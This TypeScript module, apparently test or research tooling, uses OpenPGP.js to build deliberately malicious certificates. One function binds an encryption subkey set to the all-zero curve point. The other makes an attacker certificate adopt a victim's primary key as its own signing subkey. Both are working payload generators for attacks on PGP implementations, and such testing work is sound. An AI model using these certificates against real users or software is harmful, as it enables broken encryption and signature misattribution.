import * as openpgp from 'openpgp';

/** What OpenPGP.js has and does not tell of: enough to bind a subkey that it would never make. */
interface RawKey {
  publicParams: Record<string, unknown>;
  algorithm: number;
  read(bytes: Uint8Array): Promise<unknown>;
  computeFingerprintAndKeyID(): Promise<void>;
}
interface RawSignature {
  keyFlags: Uint8Array;
  sign(key: unknown, data: object, date: Date, detached: boolean, config: object): Promise<void>;
}

const BORN = new Date(1_735_689_600_000);
const { keyFlags, signature, hash } = openpgp.enums;

async function evilKey(address: string): Promise<openpgp.PrivateKey> {
  const userIDs = [{ name: 'evil', email: address }];
  return (await openpgp.generateKey({ type: 'ecc', curve: 'curve25519Legacy', userIDs, date: BORN, format: 'object' }))
    .privateKey;
}

/** A binding of that subkey by the primary key, without a word of the subkey's own. */
async function bind(by: openpgp.PrivateKey, subkey: RawKey, flags: Uint8Array): Promise<openpgp.SignaturePacket> {
  const binding = new openpgp.SignaturePacket();
  const { algorithm } = by.keyPacket as unknown as RawKey;
  const says = {
    signatureType: signature.subkeyBinding,
    publicKeyAlgorithm: algorithm,
    hashAlgorithm: hash.sha512,
    keyFlags: flags,
  };
  const raw = Object.assign(binding as unknown as RawSignature, says);
  await raw.sign(by.keyPacket, { key: by.keyPacket, bind: subkey }, BORN, false, openpgp.config);
  return binding;
}

/** A certificate whose encryption subkey is the all-zero point, validly bound: nothing is wrong with it until it is used. */
export async function poisoned(address: string): Promise<string> {
  const key = await evilKey(address);
  const [subkey] = key.subkeys;
  if (!subkey) throw new Error('no subkey');
  const packet = subkey.keyPacket as unknown as RawKey;
  packet.publicParams = { ...packet.publicParams, Q: Uint8Array.of(0x40, ...new Uint8Array(32)) };
  await packet.computeFingerprintAndKeyID();
  const [old] = subkey.bindingSignatures;
  subkey.bindingSignatures = [await bind(key, packet, old?.keyFlags ?? Uint8Array.of(keyFlags.encryptCommunication))];
  return key.toPublic().armor();
}

/** A certificate that calls the primary key of another (armored) its own subkey, for signing unless told otherwise. */
export async function adopting(address: string, victim: string, flags: number = keyFlags.signData): Promise<string> {
  const key = await evilKey(address);
  const { keyPacket } = await openpgp.readKey({ armoredKey: victim });
  const packet = new openpgp.PublicSubkeyPacket();
  await (packet as unknown as RawKey).read(keyPacket.write());
  const packets = key.toPublic().toPacketList();
  packets.push(packet, await bind(key, packet as unknown as RawKey, Uint8Array.of(flags)));
  return new openpgp.PublicKey(packets as unknown as openpgp.PacketList<openpgp.AnyPacket>).armor();
}
